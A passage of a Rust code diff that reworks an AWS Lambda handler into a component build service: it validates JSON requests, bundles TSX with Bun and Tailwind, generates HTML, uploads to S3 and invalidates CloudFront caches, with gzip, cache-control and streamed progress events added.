+    if body.trim_ascii().is_empty() {
+        return Err("request body is empty".to_string());
+    }
 
-    while let Some(entry) = dir_entries.next_entry().await? {
-        let file_path = entry.path();
-        let file_name = file_path.file_name().and_then(|n| n.to_str()).unwrap();
+    let value: serde_json::Value = serde_json::from_slice(body).map_err(|e| e.to_string())?;
 
-        let s3_key = format!("{}/{}", component_id, file_name);
+    let Some(object) = value.as_object() else {
+        return Err("request body must be a JSON object".to_string());
+    };
 
-        if let Err(e) = upload_file_to_s3(&s3_client, &bucket_name, &file_path, &s3_key).await {
-            return error_response(500, format!("Upload failed: {}", e));
+    for field in REQUIRED_FIELDS {
+        if !object.contains_key(*field) {
+            return Err(format!("missing required field: {}", field));
         }
     }
 
-    let response_body = json!({
-        "renderUrl": format!("https://{}.preview.runney.cloud/index.html", component_id),
-        "originalUrl": format!("https://{}/{}/index.html", cloudfront_domain, component_id)
-    });
-
-    if let Err(e) = tokio::fs::remove_dir_all(&workspace_dir).await {
-        tracing::error!(
-            component_id = component_id,
-            error = %e,
-            "Failed to cleanup workspace"
-        );
+    if !object.contains_key("code") && !object.contains_key("source_s3_key") {
+        return Err("missing required field: code".to_string());
     }
 
-    Response::builder()
-        .status(200)
-        .header("content-type", "application/json")
-        .body(response_body.to_string().into())
-        .map_err(Box::new)
-        .map_err(Into::into)
+    serde_json::from_value(value).map_err(|e| e.to_string())
 }
 
-async fn upload_file_to_s3(
-    client: &Client,
-    bucket_name: &str,
-    file_path: &Path,
-    s3_key: &str,
-) -> Result<(), Box<dyn std::error::Error>> {
-    let file_content = fs::read(file_path).await?;
+fn error_response(status: u16, message: String) -> Result<Response<Body>, Error> {
+    let resp = Response::builder()
+        .status(status)
+        .header("content-type", "text/html")
+        .body(message.into())
+        .map_err(Box::new)?;
+    Ok(resp)
+}
 
-    let content_type = match file_path.extension().and_then(|ext| ext.to_str()) {
-        Some("css") => "text/css",
-        Some("js") => "application/javascript",
-        Some("html") => "text/html",
-        _ => "application/octet-stream",
+pub(crate) async fn function_handler(event: Request) -> Result<Response<Body>, Error> {
+    let started = Instant::now();
+    let config = build_config()?;
+    let gzip = accepts_gzip(&event);
+    let response = build_component(event, &Progress::default(), config, &S3_STORE)
+        .instrument(request_span(config.env_name.as_deref()))
+        .await?;
+    let response = with_cache_control(response, &config.response_cache_control);
+    let response = if gzip {
+        gzip_response(response)?
+    } else {
+        response
     };
+    Ok(with_build_duration(response, started.elapsed()))
+}
 
-    client
-        .put_object()
-        .bucket(bucket_name)
-        .key(s3_key)
-        .body(ByteStream::from(file_content))
-        .content_type(content_type)
-        .send()
-        .await?;
+/// Whether `Accept-Encoding` allows gzip, i.e. lists `gzip` (or `*`)
+/// without `q=0`.
+fn accepts_gzip(event: &Request) -> bool {
+    event
+        .headers()
+        .get_all(ACCEPT_ENCODING)
+        .iter()
+        .filter_map(|value| value.to_str().ok())
+        .flat_map(|value| value.split(','))
+        .any(|coding| {
+            let mut params = coding.split(';').map(str::trim);
+            let name = params.next().unwrap_or_default();
+            let refused = params.any(|param| {
+                param
+                    .strip_prefix("q=")
+                    .and_then(|q| q.parse::<f32>().ok())
+                    .is_some_and(|q| q == 0.0)
+            });
+            (name.eq_ignore_ascii_case("gzip") || name == "*") && !refused
+        })
+}
 
-    Ok(())
+/// Gzips a response's body and marks it `Content-Encoding: gzip`. Empty
+/// bodies (HEAD and 304 answers) are left alone.
+fn gzip_response(response: Response<Body>) -> Result<Response<Body>, Error> {
+    let (mut parts, body) = response.into_parts();
+    if body.is_empty() {
+        return Ok(Response::from_parts(parts, body));
+    }
+
+    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    encoder.write_all(&body)?;
+    let compressed = encoder.finish()?;
+
+    parts
+        .headers
+        .insert(CONTENT_ENCODING, HeaderValue::from_static("gzip"));
+    parts
+        .headers
+        .append(VARY, HeaderValue::from_static("accept-encoding"));
+    Ok(Response::from_parts(parts, Body::Binary(compressed)))
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use lambda_http::{Request, RequestExt};
-    use std::collections::HashMap;
+/// Span covering one invocation, carrying the deployment's `env` on every
+/// log line emitted inside it, and the request's `label` once it is parsed.
+fn request_span(env_name: Option<&str>) -> tracing::Span {
+    match env_name {
+        Some(env) => tracing::info_span!("request", env = %env, label = tracing::field::Empty),
+        None => tracing::info_span!("request", label = tracing::field::Empty),
+    }
+}
 
-    #[tokio::test]
-    async fn test_generic_http_handler() {
-        let request = Request::default();
+fn add_environment(response_body: &mut serde_json::Value, env_name: Option<&str>) {
+    if let Some(env_name) = env_name {
+        response_body["environment"] = json!(env_name);
+    }
+}
 
-        let response = function_handler(request).await.unwrap();
-        assert_eq!(response.status(), 200);
+/// Exposes the total handling time as `x-build-duration-ms`, so proxies and
+/// edge logs can see it without parsing the body.
+fn with_build_duration<B>(mut response: Response<B>, elapsed: Duration) -> Response<B> {
+    response.headers_mut().insert(
+        "x-build-duration-ms",
+        HeaderValue::from(elapsed.as_millis() as u64),
+    );
+    response
+}
 
-        let body_bytes = response.body().to_vec();
-        let body_string = String::from_utf8(body_bytes).unwrap();
+/// Build results depend on the request and the moment it ran, so responses
+/// aren't cacheable unless `RESPONSE_CACHE_CONTROL` says otherwise.
+const DEFAULT_RESPONSE_CACHE_CONTROL: &str = "no-store";
 
-        assert_eq!(
-            body_string,
-            "Hello world, this is an AWS Lambda HTTP request"
-        );
+/// Sets `Cache-Control` on a response, successful or not. An unusable
+/// configured value falls back to the default rather than failing the build.
+fn with_cache_control<B>(mut response: Response<B>, value: &str) -> Response<B> {
+    let header = HeaderValue::from_str(value).unwrap_or_else(|_| {
+        tracing::warn!(value = value, "Ignoring invalid RESPONSE_CACHE_CONTROL");
+        HeaderValue::from_static(DEFAULT_RESPONSE_CACHE_CONTROL)
+    });
+    response.headers_mut().insert(CACHE_CONTROL, header);
+    response
+}
+
+/// Answers `HEAD ?component_id=...` with 200 if the component's page, or for
+/// an immutable deploy its pointer, has been published and 404 if not,
+/// without building anything.
+async fn head_component<C: Connect>(
+    event: &Request,
+    config: &BuildConfig,
+    s3: &SharedStore<C>,
+) -> Result<Response<Body>, Error> {
+    let query = event.query_string_parameters();
+
+    let Some(component_id) = query.first("component_id") else {
+        return empty_response(400);
+    };
+
+    let s3_client = s3.get(config).await;
+
+    component_exists_response(s3_client, &config.bucket_name, component_id).await
+}
+
+async fn component_exists_response<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    component_id: &str,
+) -> Result<Response<Body>, Error> {
+    for name in [DEFAULT_INDEX_NAME, DEPLOY_POINTER] {
+        let key = format!("{}/{}", component_id, name);
+        if store.head(bucket_name, &key).await?.is_some() {
+            return empty_response(200);
+        }
     }
 
-    #[tokio::test]
-    async fn test_http_handler_with_query_string() {
-        let mut query_string_parameters: HashMap<String, String> = HashMap::new();
-        query_string_parameters.insert("name".into(), "nimbus".into());
+    empty_response(404)
+}
 
-        let request = Request::default().with_query_string_parameters(query_string_parameters);
+fn empty_response(status: u16) -> Result<Response<Body>, Error> {
+    Response::builder()
+        .status(status)
+        .body(Body::Empty)
+        .map_err(Box::new)
+        .map_err(Into::into)
+}
 
-        let response = function_handler(request).await.unwrap();
-        assert_eq!(response.status(), 200);
+/// Streams newline-delimited JSON progress events while the build runs,
+/// finishing with a `result` event that carries the status and body the
+/// buffered handler would have returned.
+pub(crate) async fn streaming_handler(event: Request) -> Result<Response<StreamBody>, Error> {
+    let config = build_config()?;
+    let (progress, mut events) = Progress::channel();
+    let (mut sender, body) = channel();
 
-        let body_bytes = response.body().to_vec();
-        let body_string = String::from_utf8(body_bytes).unwrap();
+    let span = request_span(config.env_name.as_deref());
+    tokio::spawn(async move {
+        let build = build_component(event, &progress, config, &S3_STORE).instrument(span);
+        tokio::pin!(build);
 
-        assert_eq!(
-            body_string,
-            "Hello nimbus, this is an AWS Lambda HTTP request"
+        let result = loop {
+            tokio::select! {
+                Some(event) = events.recv() => send_event(&mut sender, &event).await,
+                result = &mut build => break result,
+            }
+        };
+
+        while let Ok(event) = events.try_recv() {
+            send_event(&mut sender, &event).await;
+        }
+
+        let last = match result {
+            Ok(response) => result_event(&response),
+            Err(e) => json!({ "phase": "result", "status": 500, "body": e.to_string() }),
+        };
+        send_event(&mut sender, &last).await;
+    });
+
+    let response = Response::builder()
+        .status(200)
+        .header("content-type", "application/x-ndjson")
+        .body(body)
+        .map_err(Box::new)?;
+    Ok(with_cache_control(response, &config.response_cache_control))
+}
+
+async fn send_event(sender: &mut Sender, event: &serde_json::Value) {
+    if let Err(e) = sender.send_data(Bytes::from(format!("{}\n", event))).await {
+        tracing::warn!(error = %e, "Failed to stream progress event");
+    }
+}
+
+/// The final streamed event, wrapping a buffered response.
+fn result_event(response: &Response<Body>) -> serde_json::Value {
+    let body = serde_json::from_slice::<serde_json::Value>(response.body())
+        .unwrap_or_else(|_| json!(String::from_utf8_lossy(response.body())));
+
+    json!({
+        "phase": "result",
+        "status": response.status().as_u16(),
+        "body": body
+    })
+}
+
+async fn build_component<C: Connect>(
+    event: Request,
+    progress: &Progress,
+    config: &BuildConfig,
+    s3: &SharedStore<C>,
+) -> Result<Response<Body>, Error> {
+    let started = Instant::now();
+    let deadline = invocation_deadline(&event);
+    let cold_start = is_cold_start();
+
+    if event.method() == Method::HEAD {
+        return head_component(&event, config, s3).await;
+    }
+
+    if !accepts_content_type(&event) {
+        return error_response(415, "expected application/json".to_string());
+    }
+
+    let inputs_etag = inputs_etag(event.body());
+    if is_not_modified(&event, &inputs_etag) {
+        return not_modified_response(&inputs_etag);
+    }
+
+    let BuildConfig {
+        bucket_name,
+        cloudfront_domain,
+        region,
+        lambda_task_root,
+        max_bundle_bytes,
+        env_tags,
+        scan_imports,
+        import_denylist,
+        build_timeout,
+        copy_attempts,
+        source_key_prefix,
+        import_map_cdn,
+        shared_react_version,
+        max_path_depth,
+        trash_grace,
+        screenshot_browser,
+        lenient_stylesheet,
+        cloudfront_distribution_id,
+        invalidation_retry,
+        env_name,
+        bun_bin,
+        npx_bin,
+        ..
+    } = config.clone();
+
+    let body = event.body();
+    let s = std::str::from_utf8(body).expect("invalid utf-8");
+
+    tracing::info!(payload = %s, "JSON Payload received");
+
+    let mut data = match parse_request_body(body.as_ref()) {
+        Ok(data) => data,
+        Err(message) => {
+            return error_response(400, message);
+        }
+    };
+
+    if let Err(message) = data.validate() {
+        return error_response(400, message);
+    }
+
+    if let Some(label) = &data.label {
+        tracing::Span::current().record("label", label.as_str());
+    }
+
+    if let Err(message) =
+        check_path_depth(data.files.as_deref().unwrap_or_default(), max_path_depth)
+    {
+        return error_response(400, message);
+    }
+
+    let take_screenshot = data.screenshot.unwrap_or(false);
+    if take_screenshot && screenshot_browser.is_none() {
+        return error_response(400, "screenshots are not enabled".to_string());
+    }
+
+    let s3_client = s3.get(config).await;
+
+    if let Some(key) = &data.source_s3_key {
+        match fetch_source(s3_client, &bucket_name, key, &source_key_prefix).await {
+            Ok(code) => data.code = code,
+            Err(failure) => return failure.into_response(),
+        }
+    }
+
+    if scan_imports {
+        if let Some(denied) = data.denied_import(&import_denylist) {
+            return error_response(403, format!("import not allowed: {}", denied));
+        }
+    }
+
+    let bundler = select_bundler(&bun_bin, &npx_bin);
+    if !bundler.is_bun() {
+        if let Some(feature) = data.bun_only_feature() {
+            return error_response(
+                400,
+                format!("{} requires Bun, which this worker doesn't have", feature),
+            );
+        }
+    }
+
+    if data.mode == Some(BuildMode::Lint) {
+        progress.start("lint");
+        let lint_dir = Path::new("/tmp").join(format!("{}-lint", data.component_id));
+        let diagnostics = match lint_component(
+            &bun_bin,
+            &lint_dir,
+            &data.code,
+            data.files.as_deref().unwrap_or_default(),
+            build_timeout,
+        )
+        .await
+        {
+            Ok(diagnostics) => diagnostics,
+            Err(failure) => return failure.into_response(),
+        };
+
+        let mut response_body = json!({
+            "valid": !diagnostics.iter().any(|d| d.severity == Severity::Error),
+            "diagnostics": diagnostics,
+        });
+        add_environment(&mut response_body, env_name.as_deref());
+        response_body["coldStart"] = json!(cold_start);
+        return build_response(&response_body, &inputs_etag);
+    }
+
+    let base_path = data.base_path.as_deref().map(normalize_base_path);
+
+    let component_id = &data.component_id;
+    let index_name = data.index_name.as_deref().unwrap_or(DEFAULT_INDEX_NAME);
+
+    let tmp_dir = Path::new("/tmp");
+    let workspace_dir = tmp_dir.join(component_id);
+    let src_dir = workspace_dir.join("src");
+    let out_dir = workspace_dir.join("dist");
+
+    progress.start("workspace");
+
+    if let Some(grace) = trash_grace {
+        match sweep_trash(Path::new(TRASH_DIR), grace, SystemTime::now()).await {
+            Ok(0) => {}
+            Ok(removed) => tracing::info!(removed = removed, "Swept old workspaces from trash"),
+            Err(e) => tracing::warn!(error = %e, "Failed to sweep workspace trash"),
+        }
+    }
+
+    tracing::info!(
+        component_id = component_id,
+        "Creating isolated workspace at {}",
+        workspace_dir.display()
+    );
+
+    let templates_path = Path::new(&lambda_task_root).join("templates");
+    let mut workspace_guard = WorkspaceGuard {
+        workspace_dir: &workspace_dir,
+        component_id,
+        trash_grace,
+        armed: true,
+    };
+
+    if let Err(error) = with_retries("Template copy", copy_attempts, COPY_RETRY_DELAY, || {
+        copy_templates(&templates_path)
+    })
+    .await
+    {
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    let temp_templates_dir = Path::new("/tmp/templates");
+    if let Err(e) = replace_dir(temp_templates_dir, &workspace_dir).await {
+        let error = WorkspaceError::io(format!("Failed to rename templates directory: {}", e), e);
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    tracing::info!(
+        component_id = component_id,
+        "Successfully copied templates to workspace"
+    );
+
+    if let Some(patch) = &data.patch {
+        match apply_patch(&workspace_dir, patch).await {
+            Ok(()) => {}
+            Err(PatchError::Rejected(message)) => return error_response(400, message),
+            Err(PatchError::Io { message, source }) => {
+                let error = WorkspaceError::io(message, source);
+                return workspace_failure(error, tmp_dir, &workspace_dir)
+                    .await
+                    .into_response();
+            }
+        }
+        tracing::info!(component_id = component_id, "Applied patch to template");
+    }
+
+    tracing::info!(component_id = component_id, "Writing component and CSS ");
+
+    for (dir, name) in [(&src_dir, "src"), (&out_dir, "out")] {
+        if let Err(e) = create_dir_all(dir).await {
+            let error =
+                WorkspaceError::io(format!("Failed to create {} directory: {}", name, e), e);
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response();
+        }
+    }
+
+    // A request's own globals_css stands in for a missing template one.
+    let lenient = lenient_stylesheet || data.globals_css.is_some();
+    let has_stylesheet = match copy_stylesheet(&workspace_dir, &src_dir, lenient).await {
+        Ok(has_stylesheet) => has_stylesheet,
+        Err(error) => {
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response()
+        }
+    };
+
+    let has_stylesheet = match &data.globals_css {
+        Some(css) => {
+            if let Err(error) = write_workspace_file(&src_dir.join("globals.css"), css).await {
+                return workspace_failure(error, tmp_dir, &workspace_dir)
+                    .await
+                    .into_response();
+            }
+            true
+        }
+        None => has_stylesheet,
+    };
+
+    let stylesheet = has_stylesheet.then_some("./globals.css");
+
+    let component_path = match contained_path(&src_dir, "UserComponent.tsx").await {
+        Ok(path) => path,
+        Err(message) => return error_response(400, message),
+    };
+
+    if let Err(error) = write_workspace_file(&component_path, &data.code).await {
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    let jsx_runtime = data.jsx_runtime.unwrap_or_default();
+    let error_boundary = data.error_boundary.unwrap_or(true);
+    let entry_point = render_entry_point(&EntryOptions {
+        import_path: "./UserComponent",
+        component_export: data.component_export.as_deref(),
+        jsx_runtime,
+        stylesheet,
+        error_boundary,
+    });
+
+    let entry_point_path = match contained_path(&src_dir, "index.tsx").await {
+        Ok(path) => path,
+        Err(message) => return error_response(400, message),
+    };
+
+    if let Err(error) = write_workspace_file(&entry_point_path, &entry_point).await {
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    for file in data.files.iter().flatten() {
+        let file_path = match contained_path(&src_dir, &file.path).await {
+            Ok(path) => path,
+            Err(message) => return error_response(400, message),
+        };
+
+        if let Some(parent) = file_path.parent() {
+            if let Err(e) = create_dir_all(parent).await {
+                let error =
+                    WorkspaceError::io(format!("Failed to create {}: {}", parent.display(), e), e);
+                return workspace_failure(error, tmp_dir, &workspace_dir)
+                    .await
+                    .into_response();
+            }
+        }
+
+        if let Err(error) = write_workspace_file(&file_path, &file.content).await {
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response();
+        }
+    }
+
+    if let Some(tsconfig) = &data.tsconfig {
+        if let Err(error) = write_tsconfig(&workspace_dir, tsconfig).await {
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response();
+        }
+    }
+
+    let entries = data.entries.as_deref().unwrap_or_default();
+    let mut entry_points = vec!["./src/index.tsx".to_string()];
+
+    for entry in entries {
+        let file_name = format!("{}.tsx", entry.name);
+        let entry_path = match contained_path(&src_dir, &file_name).await {
+            Ok(path) => path,
+            Err(message) => return error_response(400, message),
+        };
+
+        let entry_source = render_entry_point(&EntryOptions {
+            import_path: &entry.import_path,
+            jsx_runtime,
+            stylesheet,
+            error_boundary,
+            ..Default::default()
+        });
+        if let Err(error) = write_workspace_file(&entry_path, &entry_source).await {
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response();
+        }
+
+        entry_points.push(format!("./src/{}", file_name));
+    }
+
+    tracing::info!(component_id = component_id, "Successfully copied TSXs");
+
+    let fail_on_warnings = data.fail_on_warnings.unwrap_or(false);
+
+    if data.mode.unwrap_or_default() == BuildMode::CssOnly {
+        if !has_stylesheet {
+            return error_response(
+                400,
+                "css-only mode needs globals_css or a template stylesheet".to_string(),
+            );
+        }
+        if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+            return failure.into_response();
+        }
+        progress.start("css");
+
+        let built_at = humantime::format_rfc3339_seconds(SystemTime::now()).to_string();
+        let mut upload_options = UploadOptions {
+            metadata: build_metadata(component_id, &built_at, data.label.as_deref()),
+            ..Default::default()
+        };
+        match object_tagging(component_id, &built_at, env_tags, data.tags.as_ref()) {
+            Ok(tagging) => upload_options.tagging = tagging,
+            Err(message) => return error_response(400, message),
+        }
+
+        let css_build = CssBuild {
+            runner: bundler.as_ref(),
+            workspace_dir: &workspace_dir,
+            tailwind_version: data.tailwind_version.as_deref(),
+            safelist: data.safelist.as_deref().unwrap_or_default(),
+            timeout: build_timeout,
+            fail_on_warnings,
+        };
+        let prefix = upload_prefix(component_id, data.version.as_deref());
+        let (summary, warnings) = match publish_css_only(
+            s3_client,
+            &bucket_name,
+            &css_build,
+            &prefix,
+            &upload_options,
+        )
+        .await
+        {
+            Ok(published) => published,
+            Err(failure) => return failure.into_response(),
+        };
+
+        let origin = origin_url(cloudfront_domain.as_deref(), &bucket_name, &region);
+        let mut response_body = json!({
+            "cssUrl": original_url(&origin, &prefix, "index.css"),
+            "uploaded": summary.uploaded,
+            "skipped": summary.skipped,
+            "files": file_listing(&origin, &prefix, &summary.files)
+        });
+        if let Some(distribution_id) = cloudfront_distribution_id.as_deref() {
+            let paths = [format!("/{}/index.css", prefix)];
+            let status = invalidate_paths(
+                cloudfront_client().await,
+                distribution_id,
+                &paths,
+                component_id,
+                invalidation_retry,
+            )
+            .await;
+            response_body["invalidationStatus"] = json!(status);
+        }
+        add_warnings(&mut response_body, &warnings);
+        add_environment(&mut response_body, env_name.as_deref());
+        response_body["coldStart"] = json!(cold_start);
+
+        workspace_guard.disarm();
+        if let Some(warning) = remove_workspace(&workspace_dir, component_id, trash_grace).await {
+            response_body["cleanupWarning"] = json!(warning);
+        }
+
+        return build_response(&response_body, &inputs_etag);
+    }
+
+    if data.dependencies.is_some() || data.bun_lockfile.is_some() {
+        if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+            return failure.into_response();
+        }
+        progress.start("install");
+        tracing::info!(component_id = component_id, "Installing dependencies");
+
+        let dependencies = data.dependencies.clone().unwrap_or_default();
+        let mut install_command = match prepare_install(
+            &bun_bin,
+            &workspace_dir,
+            &dependencies,
+            data.bun_lockfile.as_deref(),
+        )
+        .await
+        {
+            Ok(command) => command,
+            Err(failure) => return failure.into_response(),
+        };
+
+        if let Err(failure) =
+            run_build_step("Dependency install", &mut install_command, build_timeout).await
+        {
+            return failure.into_response();
+        }
+    }
+
+    match prebuild_command(&bun_bin, &workspace_dir).await {
+        Ok(Some(_)) if !bundler.is_bun() => {
+            return error_response(
+                500,
+                "server misconfigured: the template's prebuild script needs Bun, which isn't installed"
+                    .to_string(),
+            );
+        }
+        Ok(Some(mut prebuild)) => {
+            tracing::info!(
+                component_id = component_id,
+                "Running template prebuild script"
+            );
+
+            if let Err(mut failure) =
+                run_build_step("Prebuild script", &mut prebuild, build_timeout).await
+            {
+                // The script belongs to the template, so its failure is ours.
+                failure.status = 500;
+                return failure.into_response();
+            }
+        }
+        Ok(None) => {}
+        Err(failure) => return failure.into_response(),
+    }
+
+    let use_import_map = data.importmap.unwrap_or(false);
+    let emit_stats = data.stats.unwrap_or(false);
+    let metafile = format!("./dist/{}", STATS_FILE);
+
+    if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+        return failure.into_response();
+    }
+    progress.start("bundle");
+    tracing::info!(component_id = component_id, "Starting Bun bundling");
+
+    let bun_build = BunBuildOptions {
+        entry_points: &entry_points,
+        extra_args: data.bun_args.as_deref().unwrap_or_default(),
+        public_path: base_path.as_deref(),
+        loaders: data.loaders.as_ref(),
+        jsx_runtime,
+        jsx_import_source: data.jsx_import_source.as_deref(),
+        externals: if use_import_map {
+            SHARED_REACT_MODULES
+        } else {
+            &[]
+        },
+        metafile: emit_stats.then_some(metafile.as_str()),
+        splitting: data.split.unwrap_or(false),
+        keep_names: data.keep_names.unwrap_or(false),
+        defines: data.define.as_ref(),
+        react_mode: data.react_mode.unwrap_or_default(),
+        format: None,
+        outdir: None,
+    };
+
+    let mut bun_command = Command::new(bundler.program());
+    bun_command
+        .args(bundler.args(&bun_build))
+        .current_dir(&workspace_dir);
+
+    let mut warnings = Vec::new();
+    let mut logs = Vec::new();
+
+    match run_build_step(bundler.step_name(), &mut bun_command, build_timeout).await {
+        Ok(output) => {
+            logs.push((bundler.step_name(), step_log(&output)));
+            match check_warnings(bundler.step_name(), &output, fail_on_warnings) {
+                Ok(found) => warnings.extend(found),
+                Err(failure) => return failure.into_response(),
+            }
+        }
+        Err(failure) => return failure.into_response(),
+    }
+
+    if let Some(limit) = max_bundle_bytes {
+        if let Err(failure) = check_bundle_size(&out_dir.join("index.js"), limit).await {
+            return failure.into_response();
+        }
+    }
+
+    let format_files = match &data.formats {
+        Some(formats) => {
+            if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+                return failure.into_response();
+            }
+            progress.start("formats");
+            match build_formats(
+                bundler.as_ref(),
+                &bun_build,
+                &workspace_dir,
+                &out_dir,
+                formats,
+                build_timeout,
+            )
+            .await
+            {
+                Ok(files) => files,
+                Err(failure) => return failure.into_response(),
+            }
+        }
+        None => Vec::new(),
+    };
+
+    if has_stylesheet {
+        if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+            return failure.into_response();
+        }
+        progress.start("css");
+        tracing::info!(component_id = component_id, "Starting tailwind build");
+
+        let css_build = CssBuild {
+            runner: bundler.as_ref(),
+            workspace_dir: &workspace_dir,
+            tailwind_version: data.tailwind_version.as_deref(),
+            safelist: data.safelist.as_deref().unwrap_or_default(),
+            timeout: build_timeout,
+            fail_on_warnings,
+        };
+        match compile_css(&css_build).await {
+            Ok((found, log)) => {
+                warnings.extend(found);
+                logs.push(("Tailwind build", log));
+            }
+            Err(failure) => return failure.into_response(),
+        }
+    }
+
+    let single_file = data.single_file.unwrap_or(false);
+    if single_file && has_stylesheet {
+        if let Err(error) = inline_stylesheet(&out_dir).await {
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response();
+        }
+    }
+
+    if !warnings.is_empty() {
+        tracing::warn!(
+            component_id = component_id,
+            count = warnings.len(),
+            "Build emitted warnings"
+        );
+    }
+
+    progress.start("html");
+    tracing::info!(component_id = component_id, "Generating HTML");
+
+    let favicon = match &data.favicon {
+        Some(favicon) => match write_favicon(&out_dir, favicon).await {
+            Ok(file_name) => Some(file_name),
+            Err(error) => {
+                return workspace_failure(error, tmp_dir, &workspace_dir)
+                    .await
+                    .into_response()
+            }
+        },
+        None => None,
+    };
+
+    let fonts = match &data.fonts {
+        Some(fonts) => match write_fonts(&out_dir, fonts).await {
+            Ok(file_names) => file_names,
+            Err(error) => {
+                return workspace_failure(error, tmp_dir, &workspace_dir)
+                    .await
+                    .into_response()
+            }
+        },
+        None => Vec::new(),
+    };
+
+    let shared_import_map = use_import_map
+        .then(|| import_map(&import_map_cdn, &shared_react_version, SHARED_REACT_MODULES));
+
+    let asset_base_url = match data.asset_url_mode.unwrap_or_default() {
+        AssetUrlMode::Relative => None,
+        AssetUrlMode::Absolute => Some(match data.version.as_deref() {
+            Some(version) => render_url(component_id, &format!("{}/", version)),
+            None => render_url(component_id, ""),
+        }),
+    };
+
+    let html_options = HtmlOptions {
+        csp_nonce: data.csp_nonce.as_deref(),
+        viewport: data.viewport.as_deref(),
+        base_path: base_path.as_deref(),
+        color_scheme: data.color_scheme.unwrap_or_default(),
+        head_extra: data.html_head_extra.as_deref(),
+        body_extra: data.html_body_extra.as_deref(),
+        omit_stylesheet: !has_stylesheet || single_file,
+        import_map: shared_import_map.as_deref(),
+        favicon,
+        asset_base_url: asset_base_url.as_deref(),
+        lang: data.lang.as_deref(),
+        loading_html: data.loading_html.as_deref(),
+        fonts: &fonts,
+        ..Default::default()
+    };
+    let mut html_content = render_html(&html_options);
+
+    if data.sandbox.unwrap_or(false) {
+        let inner_path = out_dir.join(SANDBOX_INNER_PAGE);
+        if let Err(error) = write_workspace_file(&inner_path, &html_content).await {
+            return workspace_failure(error, tmp_dir, &workspace_dir)
+                .await
+                .into_response();
+        }
+        html_content = render_sandbox_page(SANDBOX_INNER_PAGE, data.lang.as_deref());
+    }
+
+    if let Err(error) = write_workspace_file(&out_dir.join(index_name), &html_content).await {
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    if let Err(error) = write_entry_pages(&out_dir, entries, &html_options).await {
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    let variants = data.viewports.as_deref().unwrap_or_default();
+    if let Err(error) = write_variant_pages(&out_dir, variants, &html_options).await {
+        return workspace_failure(error, tmp_dir, &workspace_dir)
+            .await
+            .into_response();
+    }
+
+    if let Some(browser) = screenshot_browser.as_deref().filter(|_| take_screenshot) {
+        if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+            return failure.into_response();
+        }
+        progress.start("screenshot");
+        if let Err(failure) = capture_screenshot(browser, &out_dir, index_name, build_timeout).await
+        {
+            return failure.into_response();
+        }
+    }
+
+    if let Err(failure) = check_deadline(deadline, SystemTime::now()) {
+        return failure.into_response();
+    }
+    progress.start("upload");
+
+    let built_at = humantime::format_rfc3339_seconds(SystemTime::now()).to_string();
+    let mut upload_options = UploadOptions {
+        metadata: build_metadata(component_id, &built_at, data.label.as_deref()),
+        exclude: data.exclude.clone().unwrap_or_default(),
+        cache_rules: data.cache_rules.clone().unwrap_or_default(),
+        html_metadata: data
+            .response_headers
+            .iter()
+            .flatten()
+            .map(|(name, value)| (name.to_ascii_lowercase(), value.clone()))
+            .collect(),
+        ..Default::default()
+    };
+
+    match object_tagging(component_id, &built_at, env_tags, data.tags.as_ref()) {
+        Ok(tagging) => upload_options.tagging = tagging,
+        Err(message) => return error_response(400, message),
+    }
+
+    let version = data.version.as_deref();
+    let base_prefix = upload_prefix(component_id, version);
+    let immutable = data.immutable.unwrap_or(false);
+
+    let published = if immutable {
+        publish_immutable(
+            s3_client,
+            &bucket_name,
+            &out_dir,
+            &base_prefix,
+            &upload_options,
+        )
+        .await
+    } else {
+        upload_dir(
+            s3_client,
+            &bucket_name,
+            &out_dir,
+            &base_prefix,
+            &upload_options,
+        )
+        .await
+        .map(|summary| (base_prefix.clone(), summary))
+    };
+    let (prefix, summary) = match published {
+        Ok(published) => published,
+        Err(e) => return error_response(500, upload_failure_message(&e)),
+    };
+
+    let latest_prefix = format!("{}/latest", component_id);
+    if version.is_some() {
+        if let Err(e) = upload_dir(
+            s3_client,
+            &bucket_name,
+            &out_dir,
+            &latest_prefix,
+            &upload_options,
+        )
+        .await
+        {
+            return error_response(500, upload_failure_message(&e));
+        }
+    }
+
+    tracing::info!(
+        component_id = component_id,
+        uploaded = summary.uploaded,
+        skipped = summary.skipped,
+        "Upload finished"
+    );
+
+    if data.verify.unwrap_or(false) {
+        if let Err(failure) =
+            verify_upload(s3_client, &bucket_name, &prefix, index_name, &summary.files).await
+        {
+            return failure.into_response();
+        }
+    }
+
+    let invalidation_status = match cloudfront_distribution_id.as_deref() {
+        Some(distribution_id) => {
+            // A content-hash prefix has never been served, so only the
+            // pointer to it can be stale.
+            let mut paths = vec![if immutable {
+                format!("/{}/{}", base_prefix, DEPLOY_POINTER)
+            } else {
+                format!("/{}/*", base_prefix)
+            }];
+            if version.is_some() {
+                paths.push(format!("/{}/*", latest_prefix));
+            }
+            let status = invalidate_paths(
+                cloudfront_client().await,
+                distribution_id,
+                &paths,
+                component_id,
+                invalidation_retry,
+            )
+            .await;
+            Some(status)
+        }
+        None => None,
+    };
+
+    let origin = origin_url(cloudfront_domain.as_deref(), &bucket_name, &region);
+
